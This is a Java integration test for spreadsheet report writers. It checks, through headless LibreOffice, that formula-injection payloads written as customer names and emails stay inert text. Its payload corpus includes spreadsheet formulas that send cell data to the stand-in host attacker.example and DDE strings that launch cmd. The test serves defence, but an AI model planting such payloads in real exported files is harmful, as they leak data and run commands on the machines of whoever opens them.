package org.stagedoor.batch.output;

import java.io.IOException;
import java.io.InputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;

import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

/**
 * Formula injection (OWASP "CSV Injection"), checked by a real spreadsheet program: every payload of the corpus,
 * as a customer's name and in an email address, is written by the report writers, and headless LibreOffice opens
 * the file and saves it again as XLSX, where POI finds no formula cell and every payload still there as text.
 * The CSV is also opened with {@code ;} and with tab as the separator, as Excel does where {@code ;} is the list
 * separator: the lines are then split inside values, and no piece may become a formula either.
 * Skipped, saying why, where LibreOffice is not installed ({@code .ci/run} installs Debian's
 * libreoffice-calc-nogui).
 */
class FormulaInjectionLibreOfficeIntegrationTests {

    /**
     * The OWASP payloads and their usual variants: leading =, +, -, @, tab and carriage return; and formulas
     * that start a field only under another separator or after a line break (issue 13 item 8).
     */
    static final List<String> CORPUS = List.of(
            "=1+1",
            "+1+1",
            "-1+1",
            "@SUM(1+1)",
            "=HYPERLINK(\"http://attacker.example/?leak=\"&A2,\"Click for details\")",
            "=cmd|' /C calc'!A0",
            "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
            "+cmd|' /C notepad'!'A1'",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "=IMPORTXML(CONCAT(\"http://attacker.example/?v=\",CONCATENATE(A2:E2)),\"//a\")",
            "=WEBSERVICE(\"http://attacker.example/\"&A2)",
            "=1+1@example.org",
            "'=1+1",
            " =1+1",
            "Baker;=2*21;",
            "Baker\t=2*21\t",
            "Smith;-1+1",
            "a;\"=1+1",
            "\n=1+1",
            "a\n=1+1",
            "a\r\n@SUM(1+1)");

    static final List<Column> COLUMNS = List.of(new Column("Customer id", ColumnType.INTEGER),
            new Column("First name", ColumnType.TEXT), new Column("Email", ColumnType.TEXT));

    static final int COMMA = ',';

    static final int SEMICOLON = ';';

    static final int TAB = '\t';

    static Path soffice;

    @TempDir
    Path directory;

    @BeforeAll
    static void findLibreOffice() {
        soffice = List.of("/usr/bin/soffice", "/usr/bin/libreoffice", "/usr/local/bin/soffice").stream()
                .map(Path::of).filter(Files::isExecutable).findFirst().orElse(null);
        assumeTrue(soffice != null, "LibreOffice is not installed (Debian: libreoffice-calc-nogui)");
    }

    @ParameterizedTest
    @EnumSource(OutputFormat.class)
    void noPayloadBecomesAFormulaWhenLibreOfficeOpensTheFile(OutputFormat format) throws Exception {
        Path file = writePayloads(format);

        Path converted = convertToXlsx(file, format == OutputFormat.CSV ? COMMA : null);

        List<List<Cell>> rows = dataRows(converted);
        assertThat(rows).hasSize(CORPUS.size() + 1);
        for (List<Cell> row : rows) {
            for (Cell cell : row) {
                assertThat(cell.getCellType()).as("cell %s", cell.getAddress()).isNotEqualTo(CellType.FORMULA);
            }
        }
        for (int i = 0; i < CORPUS.size(); i++) {
            Cell name = rows.get(i + 1).get(1);
            assertThat(name.getCellType()).as("row %d", i + 1).isEqualTo(CellType.STRING);
            // The payload is still all there as text: exactly in XLSX, with the quotes that keep it inert in CSV.
            String expected = format == OutputFormat.XLSX ? CORPUS.get(i) : SpreadsheetSafety.neutralise(CORPUS.get(i));
            assertThat(visible(name.getStringCellValue())).as("row %d", i + 1).isEqualTo(visible(expected));
            assertThat(rows.get(i + 1).get(2).getCellType()).isEqualTo(CellType.STRING);
        }
    }

    @ParameterizedTest(name = "separator {0}")
    @ValueSource(ints = {SEMICOLON, TAB})
    @DisplayName("covers issue 13 item 8: a CSV opened with ; or tab as the separator holds no formula")
    void noPieceOfAPayloadBecomesAFormulaWhenLibreOfficeSplitsTheCsvAtAnotherSeparator(int separator)
            throws Exception {
        Path converted = convertToXlsx(writePayloads(OutputFormat.CSV), separator);

        List<List<Cell>> rows = dataRows(converted);
        List<String> texts = new ArrayList<>();
        for (List<Cell> row : rows) {
            for (Cell cell : row) {
                assertThat(cell.getCellType()).as("cell %s", cell.getAddress()).isNotEqualTo(CellType.FORMULA);
                texts.add(cell.getCellType() == CellType.STRING ? cell.getStringCellValue() : null);
            }
        }
        // The lines were split inside the values (the header is one cell), and the piece after Baker is text.
        assertThat(texts).contains("Customer id,First name,Email", "'=2*21");
    }

    private Path writePayloads(OutputFormat format) throws IOException {
        Path file = directory.resolve("payloads." + format.extension());
        try (ReportFileWriter writer = ReportFiles.open(format, file, COLUMNS, Fixtures.venueDescription())) {
            for (int i = 0; i < CORPUS.size(); i++) {
                writer.write(new Object[] { (long) i + 1, CORPUS.get(i), CORPUS.get(i).strip() + "@example.org" });
            }
            writer.finish();
        }
        return file;
    }

    /** The text as LibreOffice shows it in one cell: a carriage return is a line feed there, a tab may go. */
    private static String visible(String text) {
        return text.replace("\r\n", "\n").replace('\r', '\n').replace("\t", "").strip();
    }

    /**
     * LibreOffice opens the file as a user would (a CSV with the given separator, UTF-8; null for an XLSX) and
     * saves it as XLSX.
     */
    private Path convertToXlsx(Path file, Integer csvSeparator) throws IOException, InterruptedException {
        Path out = Files.createDirectories(directory.resolve("converted"));
        List<String> command = new ArrayList<>(List.of(soffice.toString(), "--headless", "--norestore",
                // A profile of its own, so that a LibreOffice already open, or a concurrent test, does not interfere.
                "-env:UserInstallation=" + directory.resolve("profile").toUri()));
        if (csvSeparator != null) {
            // Separator, then text delimiter ("), character set (UTF-8) and first line, as character codes.
            command.add("--infilter=CSV:" + csvSeparator + ",34,76,1");
        }
        command.addAll(List.of("--convert-to", "xlsx", "--outdir", out.toString(), file.toString()));
        Process process = new ProcessBuilder(command).redirectErrorStream(true)
                .redirectOutput(directory.resolve("soffice.log").toFile()).start();
        assertThat(process.waitFor(120, TimeUnit.SECONDS)).as("LibreOffice finished").isTrue();
        Path converted = out.resolve("payloads.xlsx");
        assertThat(converted).as(Files.readString(directory.resolve("soffice.log"))).exists();
        return converted;
    }

    private static List<List<Cell>> dataRows(Path xlsx) throws IOException {
        List<List<Cell>> rows = new ArrayList<>();
        try (InputStream in = Files.newInputStream(xlsx); XSSFWorkbook workbook = new XSSFWorkbook(in)) {
            Sheet sheet = workbook.getSheetAt(0);
            for (Row row : sheet) {
                List<Cell> cells = new ArrayList<>();
                row.forEach(cells::add);
                rows.add(cells);
            }
        }
        return rows;
    }
}
